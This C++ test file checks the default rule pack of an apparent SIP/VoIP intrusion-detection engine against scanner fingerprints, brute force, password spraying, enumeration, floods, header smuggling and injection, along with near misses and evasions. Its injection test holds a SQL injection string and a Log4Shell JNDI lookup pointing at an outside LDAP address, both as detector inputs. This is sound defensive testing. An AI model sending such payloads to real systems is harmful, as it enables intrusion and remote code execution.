// The default pack: for every rule an attack that it must catch, a near miss that it must not, and
// an evasion.
#include "tests/engine/fixture.h"

namespace sipward::engine {
namespace {

class PackTest : public EngineTest {
 protected:
  void SetUp() override { LoadPack(); }
  bool Hit(std::string_view rule) const {
    for (uint32_t i = 0; i < verdict_.hit_count; ++i) {
      if (verdict_.hits[i].rule->name == rule) return true;
    }
    return false;
  }
  static std::string Sipvicious(std::string_view method, std::string_view user,
                                std::string_view user_agent) {
    const std::string who =
        "\"" + std::string(user) + "\"<sip:" + std::string(user) + "@198.51.100.1>";
    return std::string(method) +
           " sip:198.51.100.1 SIP/2.0\r\nVia: SIP/2.0/UDP "
           "192.0.2.7:5091;branch=z9hG4bK-366928271;rport\r\n" +
           "Max-Forwards: 70\r\nTo: " + who + "\r\nFrom: " + who +
           ";tag=3766303030303031\r\nUser-Agent: " + std::string(user_agent) +
           "\r\nCall-ID: 2610433386795903\r\nContact: sip:" + std::string(user) +
           "@192.0.2.7:5091\r\nCSeq: 1 " + std::string(method) +
           "\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n";
  }
  static std::string Answer(std::string_view user, std::string_view response) {
    return "Authorization: Digest username=\"" + std::string(user) +
           "\", realm=\"example.com\", nonce=\"n1\", uri=\"sip:example.com\", response=\"" +
           std::string(response) + "\"\r\n";
  }
};

TEST_F(PackTest, AnOrdinaryCallIsAllowed) {
  for (const char* method : {"INVITE", "OPTIONS", "REGISTER", "MESSAGE", "SUBSCRIBE"}) {
    EXPECT_EQ(Inspect(RequestText{.method = method}).action, Action::kAllow) << method;
  }
  EXPECT_EQ(Inspect(ResponseText(200, "INVITE", "bob", "c")).action, Action::kAllow);
}

TEST_F(PackTest, ScannerByUserAgent) {
  EXPECT_EQ(Inspect(RequestText{.user_agent = "friendly-scanner"}).action, Action::kDrop);
  EXPECT_TRUE(Hit("scan.user_agent"));
  EXPECT_EQ(Inspect(RequestText{.user_agent = "Friendly Office Phone"}).action, Action::kAllow);
  EXPECT_EQ(Inspect(RequestText{.user_agent = "x FRIENDLY-Scanner/2"}).action, Action::kDrop);
}

TEST_F(PackTest, SipviciousByStructure) {
  EXPECT_EQ(Inspect(Sipvicious("OPTIONS", "100", "Desk Phone 1.0")).action, Action::kDrop);
  EXPECT_TRUE(Hit("scan.sipvicious"));
  // One mark alone: a decimal branch.
  std::string near = RequestText{}.str();
  near.replace(near.find("z9hG4bK776asdhds"), 16, "z9hG4bK-77612345");
  EXPECT_EQ(Inspect(near).action, Action::kAllow);
  // The branch made innocent: order and Accept remain.
  std::string evasion = Sipvicious("REGISTER", "200", "Desk Phone 1.0");
  evasion.replace(evasion.find("z9hG4bK-366928271"), 17, "z9hG4bKabcdefghij");
  EXPECT_EQ(Inspect(evasion).action, Action::kDrop);
}

TEST_F(PackTest, SipptsByStructure) {
  const std::string branch = "z9hG4bK" + std::string(64, 'q');
  std::string attack = RequestText{.call_id = "0123456789abcdef0123456789abcdef"}.str();
  attack.replace(attack.find("z9hG4bK776asdhds"), 16, branch);
  EXPECT_EQ(Inspect(attack).action, Action::kAllow) << "two marks";
  attack.replace(attack.find("1928301774"), 10, "19af01bc");
  EXPECT_EQ(Inspect(attack).action, Action::kDrop) << "three marks";
  EXPECT_TRUE(Hit("scan.sippts"));
}

TEST_F(PackTest, BruteForceByManyResponses) {
  int caught_at = 0;
  for (int i = 1; i <= 10 && !caught_at; ++i) {
    After(kSecond);
    Inspect(RequestText{.method = "REGISTER",
                        .to_user = "alice",
                        .extra = Answer("alice", "r" + std::to_string(i))});
    if (verdict_.action > Action::kFlag) caught_at = i;
  }
  EXPECT_EQ(caught_at, 6);
  EXPECT_TRUE(Hit("auth.bruteforce"));
}

TEST_F(PackTest, APhoneThatRefreshesIsNoBruteForce) {
  for (int i = 0; i < 60; ++i) {
    After(30 * kSecond);
    EXPECT_EQ(Inspect(RequestText{.method = "REGISTER",
                                  .extra = Answer("alice", "r" + std::to_string(i))})
                  .action,
              Action::kAllow);
  }
}

TEST_F(PackTest, BruteForceSeenInTheRefusals) {
  packet_.destination = *IpAddress::Parse("203.0.113.66");
  for (int i = 1; i <= 10; ++i) {
    After(kSecond);
    Inspect(ResponseText(401, "REGISTER", "alice", "c" + std::to_string(i)));
    EXPECT_EQ(Hit("auth.failures"), i == 10) << i;
  }
  Inspect(ResponseText(200, "REGISTER", "alice", "c"));
  EXPECT_FALSE(Hit("auth.failures"));
  Inspect(ResponseText(401, "REGISTER", "alice", "c"));
  EXPECT_FALSE(Hit("auth.failures")) << "a success wipes the slate";
}

TEST_F(PackTest, PasswordSpraying) {
  for (int i = 1; i <= 12; ++i) {
    After(20 * kSecond);
    Inspect(ResponseText(403, "REGISTER", "user" + std::to_string(i), "c"));
  }
  EXPECT_TRUE(Hit("auth.spray"));
}

TEST_F(PackTest, EnumerationByRegister) {
  int caught_at = 0;
  for (int i = 1; i <= 10 && !caught_at; ++i) {
    After(50 * kMillisecond);
    Inspect(RequestText{
        .method = "REGISTER", .call_id = std::to_string(i), .to_user = std::to_string(100 + i)});
    if (verdict_.action > Action::kFlag) caught_at = i;
  }
  EXPECT_EQ(caught_at, 6);
  EXPECT_TRUE(Hit("enum.register"));
}

TEST_F(PackTest, AnOfficeThatRegistersIsNoEnumeration) {
  for (int i = 0; i < 100; ++i) {
    const std::string user = std::to_string(200 + i);
    After(50 * kMillisecond);
    Inspect(RequestText{.method = "REGISTER", .call_id = user, .to_user = user});
    EXPECT_LE(verdict_.action, Action::kFlag) << i;
    After(50 * kMillisecond);
    Inspect(RequestText{
        .method = "REGISTER", .call_id = user, .to_user = user, .extra = Answer(user, "r" + user)});
    EXPECT_LE(verdict_.action, Action::kFlag) << i;
  }
}

TEST_F(PackTest, EnumerationByOptions) {
  for (int i = 1; i <= 11; ++i) {
    Inspect(RequestText{.method = "OPTIONS", .to_user = std::to_string(i)});
    EXPECT_EQ(Hit("enum.options"), i == 11) << i;
  }
}

TEST_F(PackTest, EnumerationSeenInNotFound) {
  for (int i = 1; i <= 11; ++i) Inspect(ResponseText(404, "INVITE", "u" + std::to_string(i), "c"));
  EXPECT_TRUE(Hit("enum.not_found"));
  packet_.destination = *IpAddress::Parse("203.0.113.9");
  for (int i = 1; i <= 20; ++i) {
    Inspect(ResponseText(404, "INVITE", "u" + std::to_string(i), "c"));
    EXPECT_FALSE(Hit("enum.not_found"));
    Inspect(ResponseText(200, "INVITE", "v" + std::to_string(i), "c"));
    EXPECT_FALSE(Hit("enum.not_found")) << "a trunk with as many good calls as bad";
  }
}

TEST_F(PackTest, AFloodIsThrottled) {
  int throttled = 0;
  for (int i = 0; i < 400; ++i) {
    After(2 * kMillisecond);
    throttled +=
        Inspect(RequestText{.call_id = "f" + std::to_string(i)}).action == Action::kThrottle;
  }
  EXPECT_GT(throttled, 100);
  EXPECT_TRUE(Hit("flood.source"));
}

TEST_F(PackTest, ABusyTrunkIsNoFlood) {
  for (int i = 0; i < 1000; ++i) {
    After(5 * kMillisecond);
    const std::string call = "f" + std::to_string(i);
    EXPECT_EQ(Inspect(RequestText{.call_id = call}).action, Action::kAllow);
    EXPECT_EQ(Inspect(RequestText{.method = "ACK", .to_tag = "t", .call_id = call}).action,
              Action::kAllow);
    EXPECT_EQ(Inspect(RequestText{.method = "BYE", .to_tag = "t", .call_id = call}).action,
              Action::kAllow);
  }
}

TEST_F(PackTest, AFloodFromManyAddressesOfOneNetwork) {
  bool seen = false;
  for (int i = 0; i < 1000; ++i) {
    After(kMillisecond);
    From("192.0.2." + std::to_string(i % 250));
    Inspect(RequestText{.call_id = "f" + std::to_string(i)});
    seen |= Hit("flood.network");
    EXPECT_FALSE(Hit("flood.source"));
  }
  EXPECT_TRUE(seen);
}

TEST_F(PackTest, AFloodOfRegistrations) {
  bool seen = false;
  for (int i = 0; i < 200; ++i) {
    After(100 * kMillisecond);
    Inspect(RequestText{.method = "REGISTER", .call_id = "f" + std::to_string(i)});
    seen |= Hit("flood.register");
  }
  EXPECT_TRUE(seen);
}

TEST_F(PackTest, MalformedAndOversized) {
  EXPECT_EQ(Inspect("INVITE sip:bob@example.com SIP/2.0\r\nCall-ID: 1\r\n\r\n").action,
            Action::kDrop);
  EXPECT_TRUE(Hit("malformed.unreadable"));
  std::string many;
  for (int i = 0; i < 300; ++i) many += "X-Filler: 1\r\n";
  EXPECT_EQ(Inspect(RequestText{.extra = many}).action, Action::kReject);
  EXPECT_EQ(verdict_.sip_code, 513);
}

TEST_F(PackTest, SmugglingIsRejectedAndAmbiguityFlagged) {
  EXPECT_EQ(Inspect(RequestText{.extra = "From: <sip:mallory@example.com>;tag=2\r\n"}).action,
            Action::kReject);
  EXPECT_TRUE(Hit("malformed.smuggling"));
  std::string text = RequestText{}.str();
  text.replace(text.find("Max-Forwards: 70\r\n"), 18, "Max-Forwards: 70\n");
  EXPECT_EQ(Inspect(text).action, Action::kFlag);
  EXPECT_TRUE(Hit("malformed.ambiguous"));
  EXPECT_EQ(Inspect(RequestText{.extra = "Max-Forwards: 999\r\n"}).action, Action::kReject);
}

TEST_F(PackTest, Injection) {
  EXPECT_EQ(Inspect(RequestText{.extra = Answer("alice' or 1=1 --", "r")}).action, Action::kReject);
  EXPECT_TRUE(Hit("injection.text"));
  EXPECT_EQ(Inspect(RequestText{.user_agent = "${jndi:ldap://192.0.2.1/a}"}).action,
            Action::kReject);
  EXPECT_EQ(Inspect(RequestText{.extra = Answer("o'connor", "r")}).action, Action::kAllow);
  EXPECT_EQ(Inspect(RequestText{.user_agent = "Phone; build 12 (shared)"}).action, Action::kAllow);
}

TEST_F(PackTest, LetsTheHostVouchForASource) {
  packet_.registered = true;
  for (int i = 0; i < 400; ++i) {
    After(2 * kMillisecond);
    EXPECT_EQ(Inspect(RequestText{.call_id = "f" + std::to_string(i)}).action, Action::kAllow);
  }
}

}  // namespace
}  // namespace sipward::engine
